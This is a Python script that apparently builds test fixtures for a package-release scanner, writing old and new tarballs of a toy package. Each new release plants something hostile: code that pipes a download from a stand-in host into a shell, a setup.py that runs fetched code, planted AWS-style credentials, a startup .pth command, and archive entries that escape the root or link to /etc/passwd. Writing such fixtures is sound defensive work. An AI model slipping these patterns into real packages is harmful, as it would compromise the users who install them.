"""Writes crafted release pairs, byte for byte the same on every run (mtime 0 in tar and gzip).

Each pair is DIR/<case>/previous.tar.gz and DIR/<case>/current.tar.gz: a small package whose current
release adds what an attacker or a careless maintainer would.
"""
import gzip
import io
import sys
import tarfile
from pathlib import Path

PKG_INFO = "Metadata-Version: 2.1\nName: demo\nVersion: {version}\n{extra}\n"
BASE = {
    "demo/__init__.py": "from .core import run\n",
    "demo/core.py": "def run():\n    return 1\n",
    "setup.py": "from setuptools import setup\nsetup()\n",
}


def member(name, data=b"", kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname, info.mtime, info.mode = len(data), kind, link, 0, 0o644
    return info, data


def write(path, version, files, raw=(), extra=""):
    root = f"demo-{version}"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        members = [member(f"{root}/PKG-INFO", PKG_INFO.format(version=version, extra=extra).encode())]
        members += [member(f"{root}/{name}", text.encode()) for name, text in sorted(files.items())]
        members += [member(name.replace("ROOT", root), data, kind, link) for name, data, kind, link in raw]
        for info, data in members:
            tar.addfile(info, io.BytesIO(data))
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as out, gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as gz:
        gz.write(buffer.getvalue())


KEY = "AKIA" + "Q3EGRTSN7XRP2BZL"
SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY99"
CASES = {
    "import-time-download": ({"demo/core.py": "import os\nos.system('curl -s https://x.example/i | sh')\n"}, ()),
    "build-time-exec": ({"setup.py": "from urllib.request import urlopen\nexec(urlopen('https://x.example/p').read())\n"}, ()),
    "secret-added": ({"demo/settings.py": f"AWS_ACCESS_KEY_ID = '{KEY}'\nAWS_SECRET_ACCESS_KEY = '{SECRET}'\n"}, ()),
    "pth-file": ({"demo-startup.pth": "import os; os.system('id')\n"}, ()),
    "escaping-entries": ({}, [
        ("ROOT/../evil.py", b"print(1)\n", tarfile.REGTYPE, ""),
        ("ROOT/demo/link.py", b"", tarfile.SYMTYPE, "/etc/passwd"),
    ]),
}
# Metadata changes: what the previous and the current PKG-INFO add after Version.
METADATA = {
    "requires-python-narrowed": ("Requires-Python: >=3.8\n", "Requires-Python: >=3.10\nRequires-Dist: requests>=2\n"),
    "local-version-dev": ("Requires-Python: >=3.9,<4.0\n", "Requires-Python: >=3.9,<4.0\nRequires-Dist: pip @ https://github.com/pypa/pip/archive/1.3.1.zip ; python_version >= \"3.8\"\n"),
}

if __name__ == "__main__":
    out = Path(sys.argv[1])
    for case, (files, raw) in CASES.items():
        write(out / case / "previous.tar.gz", "1.0", BASE)
        write(out / case / "current.tar.gz", "1.1", {**BASE, **files}, raw)
    for case, (before, after) in METADATA.items():
        write(out / case / "previous.tar.gz", "1.0", BASE, extra=before)
        current = "1.1.dev3+g1a2b3c4.d20240101" if case == "local-version-dev" else "1.1"
        write(out / case / "current.tar.gz", current, BASE, extra=after)
